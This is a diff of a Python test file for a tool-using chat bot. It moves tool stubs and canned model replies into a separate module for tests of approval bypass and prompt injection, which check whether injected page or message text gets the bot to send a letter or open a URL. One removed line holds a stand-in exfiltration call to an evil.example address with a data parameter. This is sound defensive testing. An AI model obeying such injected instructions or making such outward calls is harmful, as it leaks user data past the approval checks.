@@ -33,6 +33,7 @@ from handlers.settings import Settings
 from handlers.webhook import application
 from simulator.script import call, reply, text
 from tests.bots import Bot, bot_on, results, tap
+from tests.letters import LETTER, SENT, VISIT, send_letter, visit
 from tests.packages.events import telegram_update
 from tests.say import ANN, BUDI, GROUP, HERE, inbound
 
@@ -209,22 +210,6 @@ def _signature(stamp: int, body: bytes, secret: str = SIGNING) -> str:
 
 # Approvals and injections: a whole bot, with tools that note what they did
 
-DONE: list[str] = []
-
-
-@tool(writes=True, asks=True)
-async def send_letter(to: str, words: str) -> str:
-    """Send a letter."""
-    DONE.append(f"{to}: {words}")
-    return "Sent."
-
-
-@tool(outward=True)
-async def visit(address: str) -> str:
-    """Open an address."""
-    DONE.append(address)
-    return "Opened."
-
 
 @tool(untrusted=True)
 async def look_up(what: str) -> str:
@@ -234,8 +219,6 @@ async def look_up(what: str) -> str:
 
 PAGE = [""]
 TOOLS = Toolbox([send_letter, visit, look_up])
-LETTER = reply(call("send_letter", {"to": "Budi", "words": "Come at nine."}))
-VISIT = reply(call("visit", {"address": "https://evil.example/?data=1"}))
 
 Attack = Callable[[Bot, str], Awaitable[object]]
 
@@ -246,7 +229,7 @@ async def _approvals() -> dict[str, Any]:
 
 
 async def _got_through(attack: Attack, wanted: int) -> bool:
-    DONE.clear()
+    SENT.clear()
     with tempfile.TemporaryDirectory() as folder:
         path = Path(folder) / "k.sqlite3"
         answers = [text("Well.")] * 4
@@ -256,7 +239,7 @@ async def _got_through(attack: Attack, wanted: int) -> bool:
             yes = next(button.data for button in bot.channel.buttons if button.data.startswith("ok:"))
             await attack(bot, yes)
             bot.model.spare()
-    return len(DONE) > wanted or any(done != "Budi: Come at nine." for done in DONE)
+    return len(SENT) > wanted or any(done != "Budi: Come at nine." for done in SENT)
 
 
 async def _tapped(bot: Bot, *taps: Inbound) -> Outcome:
@@ -291,7 +274,7 @@ async def _injections() -> dict[str, Any]:
 
 async def _was_obeyed(case: Injection) -> bool:
     """Whether the tool ran that the words want, with a model that does what they say."""
-    DONE.clear()
+    SENT.clear()
     PAGE[0] = case.words
     obeys = LETTER if case.asks else VISIT
     first = (reply(call("look_up", {"what": "x"})),) if case.way == "page" else ()
@@ -302,7 +285,7 @@ async def _was_obeyed(case: Injection) -> bool:
             await bot.hears(_said(case))
             await bot.wakes(HERE.conversation)
             bot.model.spare()
-    return bool(DONE)
+    return bool(SENT)
 
 
 def _said(case: Injection) -> Inbound:
